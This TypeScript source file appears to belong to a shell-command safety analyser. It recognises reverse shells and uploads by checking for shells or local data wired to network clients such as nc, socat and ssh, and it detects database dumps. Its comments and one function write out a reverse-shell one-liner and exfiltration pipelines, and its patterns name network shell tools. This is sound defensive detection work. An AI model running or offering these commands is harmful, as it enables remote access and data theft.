// Pipelines wired to the network, read by their shape rather than their spelling:
// - a shell (or an interpreter reading its stdin) whose input or output is a network client is a
//   reverse shell, whatever the client (nc, ncat, socat, openssl s_client, telnet, ssh, a fifo
//   between them, zsh's ztcp): it reads as `bash -i >& /dev/tcp/HOST/PORT 0>&1`;
// - data computed on this machine and piped into a network client (`pg_dump | gzip | ssh host
//   "cat > f"`, `tar c . | nc host 9000`) is an upload: it reads as `curl -T - URL`.
// Literal text piped in (`printf 'GET / HTTP/1.0\r\n\r\n' | nc host 80`) is not local data.
import type { Token } from './shell-parse.js';
import { basename } from './shell-wrappers.js';
import { at } from '../util/invariant.js';

export interface Endpoint {
  /** host[:port] as written. */
  host: string;
  port: string;
  /** The client program, for explain. */
  via: string;
  /** ssh with a remote command: what runs there reads the data (not a shell's input). */
  remote?: string;
}

const NC_ARGS = new Set(['-p', '-s', '-w', '-i', '-q', '-x', '-X', '-O', '-I', '-e', '-c', '-W', '-T']);
const SSH_ARGS = new Set(['-B', '-b', '-c', '-D', '-E', '-e', '-F', '-I', '-i', '-J', '-L', '-l', '-m', '-O', '-o']);
for (const a of ['-p', '-Q', '-R', '-S', '-W', '-w']) SSH_ARGS.add(a);

function operands(words: string[], withArg: Set<string>): string[] {
  const out: string[] = [];
  for (let i = 1; i < words.length; i++) {
    const w = at(words, i);
    if (w === '--') {
      out.push(...words.slice(i + 1));
      break;
    }
    if (w.startsWith('-') && w.length > 1) {
      if (withArg.has(w)) i++;
      continue;
    }
    out.push(w);
  }
  return out;
}

/** The host a network client connects to, when the words are one (listeners are not). */
export function networkClient(words: string[]): Endpoint | null {
  const name = basename(words[0] ?? '').toLowerCase();
  if (name === 'nc' || name === 'ncat' || name === 'netcat' || name === 'nc.traditional' || name === 'nc.openbsd') {
    if (words.some((w) => w === '-l' || w === '--listen' || /^-[a-z]*l[a-z]*$/.test(w))) return null;
    const [host, port] = operands(words, NC_ARGS);
    return host ? { host, port: port ?? '', via: name } : null;
  }
  if (name === 'telnet') {
    const [host, port] = operands(words, new Set(['-l', '-b', '-e', '-n']));
    return host ? { host, port: port ?? '23', via: name } : null;
  }
  if (name === 'openssl' && words[1] === 's_client') {
    const i = words.indexOf('-connect');
    const t = i > 0 ? words[i + 1] : undefined;
    if (!t) return null;
    const m = /^(.*):(\d+)$/.exec(t);
    return { host: m ? at(m, 1) : t, port: m ? at(m, 2) : '443', via: 'openssl s_client' };
  }
  if (name === 'socat') {
    for (const w of words.slice(1)) {
      const m = /^(?:tcp[46]?|openssl|ssl|udp[46]?)(?:-connect)?:([^:,]+|\[[^\]]+\]):(\d+)/i.exec(w);
      if (m) return { host: at(m, 1), port: at(m, 2), via: name };
    }
    return null;
  }
  if (name === 'ztcp') {
    const ops = operands(words, new Set(['-d']));
    if (words.includes('-l') || words.includes('-a') || words.includes('-c')) return null;
    const [host, port] = ops;
    return host ? { host, port: port ?? '', via: name } : null;
  }
  if (name === 'ssh') {
    const ops = operands(words, SSH_ARGS);
    const host = ops[0];
    if (!host) return null;
    const e: Endpoint = { host: host.replace(/^[^@]*@/, ''), port: '22', via: 'ssh' };
    if (ops.length > 1) e.remote = ops.slice(1).join(' ');
    return e;
  }
  return null;
}

/** The URL an upload to the endpoint reads as. */
export function endpointUrl(e: Endpoint): string {
  const scheme = e.via === 'ssh' ? 'ssh' : 'tcp';
  return `${scheme}://${e.host}${e.port ? ':' + e.port : ''}/`;
}

/** The canonical reverse-shell spelling for a shell wired to the endpoint. */
export function reverseShellReading(e: Endpoint): string {
  return `bash -i >& /dev/tcp/${e.host}/${e.port || '0'} 0>&1`;
}

/** Whether the stage's own stdio is redirected to a descriptor a connection opened (`>&$REPLY`, `<&3`). */
export function stdioOnSocket(tokens: Token[]): boolean {
  return tokens.some((t) => t.redir && /^[012]?[<>]&(?:\$\{?[A-Za-z_]|[3-9])/.test(t.text.replace(/\s+/g, '')));
}

/**
 * Database dump programs: what they print is a database (pg_dump(1), pg_dumpall, mysqldump and
 * mariadb-dump, mongodump --archive, sqlite3's .dump, redis-cli --rdb, influx backup).
 */
export function dumpsDatabase(words: string[]): boolean {
  const name = basename(words[0] ?? '').toLowerCase();
  if (/^(?:pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|cockroach-dump|influxd?)$/.test(name))
    return name !== 'influxd' && (name !== 'influx' || words.includes('backup'));
  if (name === 'sqlite3') return words.some((w) => /^\.(?:dump|backup)\b/.test(w));
  if (name === 'redis-cli') return words.includes('--rdb');
  return false;
}

/** Host options of database clients (psql -h, mysql --host, mongorestore --uri URL ...). */
const DB_CLIENT =
  /^(?:psql|pg_restore|mysql|mariadb|mongorestore|mongoimport|mongosh|mongo|redis-cli|clickhouse-client|cockroach|sqlcmd)$/;

/** The host a database client writes what it reads on its input to, when one is named. */
export function databaseClientHost(words: string[]): string | null {
  const name = basename(words[0] ?? '').toLowerCase();
  if (!DB_CLIENT.test(name)) return null;
  for (let i = 1; i < words.length; i++) {
    const w = at(words, i);
    const eq = w.indexOf('=');
    const opt = eq > 0 ? w.slice(0, eq) : w;
    const val = eq > 0 ? w.slice(eq + 1) : words[i + 1];
    if (/^(?:-h|--host|-S|--server)$/.test(opt) && val) return val.replace(/[:,].*$/, '');
    if (/^(?:--uri|--url|--dbname|-d)$/.test(opt) && val && /:\/\//.test(val)) return uriHost(val);
    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(w)) return uriHost(w);
  }
  return null;
}

function uriHost(uri: string): string | null {
  return /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/]*@)?(\[[^\]]+\]|[^:/?,]+)/i.exec(uri)?.[1]?.toLowerCase() ?? null;
}
